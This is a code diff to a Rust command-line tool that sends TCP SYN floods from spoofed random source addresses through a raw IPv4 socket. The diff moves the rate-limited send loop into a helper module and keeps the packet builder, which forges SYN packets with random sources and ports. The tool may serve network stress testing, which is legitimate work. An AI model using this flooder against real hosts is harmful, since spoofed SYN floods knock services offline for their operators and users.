@@ -26,9 +26,10 @@ use clap::Parser;
 use etherparse::{PacketBuilder, TcpOptionElement};
 use rand::rngs::SmallRng;
 use rand::{Rng, SeedableRng};
-use socket2::{Domain, Protocol, SockAddr, Socket, Type};
 use std::net::{Ipv4Addr, SocketAddrV4};
-use std::time::{Duration, Instant};
+
+#[path = "support/raw_flood.rs"]
+mod raw_flood;
 
 #[derive(Parser)]
 #[command(about = "TCP SYN flood from random sources through a raw IPv4 socket")]
@@ -48,10 +49,6 @@ struct Args {
 }
 
 type BoxError = Box<dyn std::error::Error>;
-
-/// `IPPROTO_RAW` (RFC 791 protocol 255): a raw socket that sends whole
-/// IPv4 datagrams, header included (Linux `raw(7)`: implies `IP_HDRINCL`).
-const IPPROTO_RAW: i32 = 255;
 
 fn parse_net(s: &str) -> Result<(u32, u32), BoxError> {
     let (a, l) = s
@@ -78,50 +75,23 @@ fn main() -> std::process::ExitCode {
 
 fn run(args: Args) -> Result<(), BoxError> {
     let (net, host_mask) = parse_net(&args.sources)?;
-    let sock = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
-        .map_err(|e| format!("raw socket (needs CAP_NET_RAW): {e}"))?;
-    let dst = SockAddr::from(SocketAddrV4::new(*args.target.ip(), 0));
     let mut rng = SmallRng::from_entropy();
-    let mut frame = Vec::with_capacity(64);
-    let start = Instant::now();
-    let end = Duration::from_secs_f64(args.seconds);
-    let mut sent = 0u64;
-    loop {
-        let t = start.elapsed();
-        if t >= end {
-            break;
-        }
-        let due = (t.as_secs_f64() * args.rate as f64) as u64;
-        while sent < due {
-            // Neither the network nor the broadcast address of the range.
-            let host = rng.gen_range(1..host_mask);
-            let src = Ipv4Addr::from(net | host);
-            frame.clear();
-            PacketBuilder::ipv4(src.octets(), args.target.ip().octets(), 64)
-                .tcp(
-                    rng.gen_range(1024..=65535),
-                    args.target.port(),
-                    rng.gen(),
-                    64_240,
-                )
-                .syn()
-                .options(&[TcpOptionElement::MaximumSegmentSize(1460)])
-                .map_err(|e| format!("building a SYN: {e}"))?
-                .write(&mut frame, &[])?;
-            sock.send_to(&frame, &dst)
-                .map_err(|e| format!("sending SYN {sent}: {e}"))?;
-            sent += 1;
-        }
-        std::thread::sleep(Duration::from_millis(1));
-    }
-    let secs = start.elapsed().as_secs_f64();
-    let rate = sent as f64 / secs;
-    println!(
-        "{}",
-        serde_json::json!({"sent": sent, "seconds": secs, "rate": rate})
-    );
-    if rate < 0.95 * args.rate as f64 {
-        return Err(format!("sent {rate:.0} SYN/s, asked for {}", args.rate).into());
-    }
-    Ok(())
+    let target = *args.target.ip();
+    raw_flood::flood(target, args.rate, args.seconds, "SYN", |frame, _| {
+        // Neither the network nor the broadcast address of the range.
+        let host = rng.gen_range(1..host_mask);
+        let src = Ipv4Addr::from(net | host);
+        PacketBuilder::ipv4(src.octets(), args.target.ip().octets(), 64)
+            .tcp(
+                rng.gen_range(1024..=65535),
+                args.target.port(),
+                rng.gen(),
+                64_240,
+            )
+            .syn()
+            .options(&[TcpOptionElement::MaximumSegmentSize(1460)])
+            .map_err(|e| format!("building a SYN: {e}"))?
+            .write(frame, &[])?;
+        Ok(())
+    })
 }
